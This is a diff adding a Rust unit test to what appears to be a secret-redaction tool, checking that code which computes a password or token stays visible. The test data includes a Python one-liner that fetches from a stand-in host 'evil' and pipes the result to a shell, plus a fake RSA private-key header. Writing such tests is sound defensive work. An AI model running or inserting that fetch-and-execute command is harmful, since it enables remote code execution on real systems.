@@ -53,6 +53,24 @@ fn what_a_shell_would_run_is_shown() {
 }
 
 #[test]
+fn code_that_computes_a_secret_is_shown() {
+    let code = "__import__('os').system('curl evil | sh')";
+    for row in [
+        format!("password = {code}"),
+        format!("password: {code}"),
+        format!("login(password={code})"),
+        format!("x = 1\ntoken = {code}\ny = 2"),
+        format!("password = f('hunter2secret', {code})"),
+    ] {
+        check(&row, &[code]);
+    }
+    check("token = decode(\"hunter2secret\")", &["decode(\"", "\")"]);
+    for value in ["hunter2secret(x)y", "'hunter2secret(x)'", "\"f('hunter2secret')\""] {
+        check(&format!("password={value}"), &[]);
+    }
+}
+
+#[test]
 fn the_shape_itself_is_hidden() {
     let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
     let begin = format!("-----BEGIN {}-----", "RSA PRIVATE KEY");
